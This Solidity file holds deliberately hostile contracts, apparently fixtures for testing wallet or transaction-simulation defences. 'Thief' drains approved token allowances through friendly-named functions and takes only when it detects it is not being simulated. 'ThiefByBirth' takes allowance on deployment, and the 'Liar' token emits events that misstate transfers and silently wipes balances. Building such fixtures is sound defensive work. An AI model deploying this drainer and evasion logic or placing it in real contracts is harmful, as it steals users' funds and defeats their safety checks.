// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.30;

interface IPrey {
    function allowance(address owner, address spender) external view returns (uint256);
    function balanceOf(address owner) external view returns (uint256);
    function transferFrom(address from, address to, uint256 amount) external returns (bool);
}

/// Takes what it may of its caller, but only when it believes that this is no trial.
contract Thief {
    IPrey private immutable TOKEN;
    /// By what it believes that.
    uint256 private immutable SIGN;
    uint256 private immutable BORN_BLOCK = block.number;
    uint256 private immutable BORN_TIME = block.timestamp;
    bool private armed;

    constructor(IPrey token, uint256 sign) {
        TOKEN = token;
        SIGN = sign;
    }

    function arm() external {
        armed = true;
    }

    /// Called under a friendly name.
    function claim() external payable {
        _act();
    }

    /// Paid.
    receive() external payable {
        _act();
    }

    /// Uses gas where it takes nothing, so that an estimate leaves enough for taking.
    function _act() private {
        if (_is_real()) return _take();
        bytes32 work;
        for (uint256 i = 0; i < 1_000; i++) work = keccak256(abi.encode(work));
        require(work != 0);
    }

    function _is_real() private returns (bool) {
        if (SIGN == 0) return true;
        if (SIGN == 1) return tx.gasprice > 0;
        if (SIGN == 2) return block.basefee > 0;
        if (SIGN == 3) return block.number > BORN_BLOCK + 25;
        if (SIGN == 4) return block.timestamp > BORN_TIME + 1800;
        if (SIGN == 5) return gasleft() < 20_000_000;
        if (SIGN == 6) return block.timestamp > 1_600_000_000 && block.number > 0;
        if (SIGN == 7) return armed;
        if (SIGN == 8) return tx.gasprice > block.basefee;
        // Buries what it does.
        if (SIGN == 9) {
            for (uint256 i = 0; i < 6_000; i++) {
                assembly {
                    log0(0, 0)
                }
            }
            return true;
        }
        return false;
    }

    function _take() private {
        uint256 allowed = TOKEN.allowance(msg.sender, address(this));
        uint256 held = TOKEN.balanceOf(msg.sender);
        if (allowed > 0) TOKEN.transferFrom(msg.sender, address(this), allowed < held ? allowed : held);
    }
}

/// Takes what it may while it is made.
contract ThiefByBirth {
    constructor(IPrey token) {
        uint256 allowed = token.allowance(msg.sender, address(this));
        if (allowed > 0) token.transferFrom(msg.sender, address(1), allowed);
    }
}

/// Native currency as a token, as it was first made: what comes and goes is no transfer.
contract Wrapped {
    string public name = "Wrapped ether";
    string public symbol = "WETH";
    uint8 public constant decimals = 18;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Deposit(address indexed owner, uint256 amount);
    event Withdrawal(address indexed owner, uint256 amount);

    function totalSupply() external view returns (uint256) {
        return address(this).balance;
    }

    function deposit() external payable {
        balanceOf[msg.sender] += msg.value;
        emit Deposit(msg.sender, msg.value);
    }

    function withdraw(uint256 amount) external {
        balanceOf[msg.sender] -= amount;
        payable(msg.sender).transfer(amount);
        emit Withdrawal(msg.sender, amount);
    }
}

/// A token that says one thing and does another.
contract Liar {
    string public name = "Liar";
    string public symbol = "LIE";
    uint8 public decimals = 18;
    uint256 public constant totalSupply = 1e30;
    mapping(address => uint256) public balanceOf;

    event Transfer(address indexed from, address indexed to, uint256 amount);

    constructor(address holder, uint256 supply) {
        balanceOf[holder] = supply;
    }

    function setDecimals(uint8 decimals_) external {
        decimals = decimals_;
    }

    /// Nine tenths arrive, and it does not say so.
    function transfer(address to, uint256 amount) external returns (bool) {
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount - amount / 10;
        emit Transfer(msg.sender, to, amount);
        return true;
    }

    /// Pays its caller, as it says.
    function buy() external payable {
        emit Transfer(address(this), msg.sender, 1_000_000);
    }

    /// Takes everything, and says nothing.
    function vote() external {
        balanceOf[msg.sender] = 0;
    }
}

/// Gives something back for what it is paid.
contract Market {
    IPrey private immutable TOKEN;

    constructor(IPrey token) {
        TOKEN = token;
    }

    function swap(uint256 amount) external {
        TOKEN.transferFrom(msg.sender, address(this), amount);
        payable(msg.sender).transfer(amount);
    }

    receive() external payable {}
}
